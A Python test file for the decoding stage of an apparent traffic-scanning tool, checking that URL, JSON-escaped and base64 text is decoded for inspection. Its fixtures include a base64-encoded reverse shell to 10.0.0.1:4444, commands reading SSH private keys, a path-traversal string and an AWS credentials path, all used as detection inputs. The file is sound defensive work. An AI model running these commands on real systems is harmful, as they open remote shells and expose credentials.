"""Decoded views (SPEC.md section 5): URL (also double), JSON escapes and nested JSON, base64 and
base64url candidates; every view bounded by the scan budget.
"""

from __future__ import annotations

import base64
import json
import re
from urllib.parse import quote

from hypothesis import given, settings
from hypothesis import strategies as st

import fakes
from traffic_guardian.detect.decode import MAX_BASE64_CANDIDATES, base64_runs, base64_texts, json_strings, views

# What a base64 candidate is (SPEC 5): 24+ base64 or base64url characters and up to two '='.
BASE64_RUN = re.compile(r"[A-Za-z0-9+/_-]{24,}={0,2}")


def by_encoding(text: str, budget: int = 262144, form: bool = False) -> dict[str, str]:
    return {view.encoding: view.text for view in views(text, budget, form_encoded=form)}


def test_plain_text_has_only_the_raw_view():
    assert list(by_encoding("hello world, nothing encoded here")) == ["raw"]


def test_url_encoding_is_decoded():
    path = "~/.ssh/id_rsa"
    assert by_encoding("file=" + quote(path, safe=""))["url"] == f"file={path}"


def test_double_url_encoding_is_decoded_in_two_rounds_not_more():
    path = "../../etc/passwd"
    once = quote(path, safe="")
    assert by_encoding("f=" + quote(once, safe=""))["url"] == f"f={path}"
    triple = quote(quote(once, safe=""), safe="")
    assert by_encoding("f=" + triple)["url"] == "f=" + once


def test_plus_is_a_space_only_for_forms_and_urls():
    assert by_encoding("a+b%21", form=True)["url"] == "a b!"
    assert by_encoding("a+b%21")["url"] == "a+b!"


def test_json_unicode_and_quote_escapes_are_decoded():
    raw = json.dumps({"cmd": 'cat "~/.ssh/id_rsa"'}).replace("/", "\\u002f")
    assert "\\u002f" in raw
    assert 'cat "~/.ssh/id_rsa"' in by_encoding(raw)["json"].splitlines()


def test_json_view_is_skipped_without_escapes():
    assert json_strings('{"a": "plain"}', 1000) is None
    assert json_strings("not json \\n at all", 1000) is None


def test_nested_json_in_tool_call_arguments_is_decoded_one_level_down():
    key = fakes.groq_key()
    arguments = '{"url": "https://x.example", "headers": {"auth": "' + key.replace("_", "\\u005f") + '"}}'
    assert "\\u005f" in arguments
    body = json.dumps({"tool_calls": [{"function": {"name": "http", "arguments": arguments}}]})
    assert key in by_encoding(body)["json"].splitlines()


def test_json_view_keys_and_values_are_both_scanned():
    text = json.dumps({"~/.aws/credentials": "x\ty"})
    assert json_strings(text, 1000).splitlines()[0] == "~/.aws/credentials"


def test_base64_and_base64url_runs_decode_to_text():
    secret_text = "cat ~/.ssh/id_ed25519 && echo done?>>"
    standard = base64.b64encode(secret_text.encode()).decode()
    urlsafe = base64.urlsafe_b64encode(secret_text.encode()).decode()
    assert by_encoding(f"blob: {standard}")["base64"] == secret_text
    assert by_encoding(f"blob={urlsafe.rstrip('=')}")["base64"] == secret_text


def test_base64_of_binary_is_dropped():
    image = base64.b64encode(bytes(range(256)) * 8).decode()
    assert "base64" not in by_encoding(image)


def test_base64_inside_url_and_json_views_is_labelled_by_both_layers():
    inner = base64.b64encode(b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").decode()
    encodings = by_encoding(quote(inner, safe=""))
    assert encodings["url+base64"].startswith("bash -i")
    escaped = json.dumps({"a": inner.replace("/", "\\/") + "\\n"})
    assert by_encoding(escaped)["json+base64"].startswith("bash -i")


def test_base64_candidates_are_capped():
    run = base64.b64encode(b"hello world, readable text!").decode()
    text = " ".join([run] * (MAX_BASE64_CANDIDATES + 50))
    assert base64_texts(text, 10**9).count("hello world") == MAX_BASE64_CANDIDATES


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.lists(st.sampled_from(["A", "z", "9", "+", "/", "_", "-", "=", " ", "\n", "\u00e9", "\ud800", "x" * 23,
                                 "Q" * 30, "=="]), max_size=40))
def test_base64_runs_are_exactly_the_regex_runs(pieces):
    text = "".join(pieces)
    assert list(base64_runs(text)) == [match.group(0) for match in BASE64_RUN.finditer(text)]


def test_every_view_respects_the_budget():
    budget = 4096
    nested = json.dumps({"a": json.dumps({"b": "x\\u0041" * 5000}), "c": ["y\\n" * 5000]})
    encoded = quote("z" * 9000, safe="") + " " + base64.b64encode(b"readable " * 2000).decode()
    for text in (nested, encoded, json.dumps({"k": base64.b64encode(b"text " * 3000).decode() + "\\n"})):
        for view in views(text[:budget], budget):
            assert len(view.text) <= budget, view.encoding
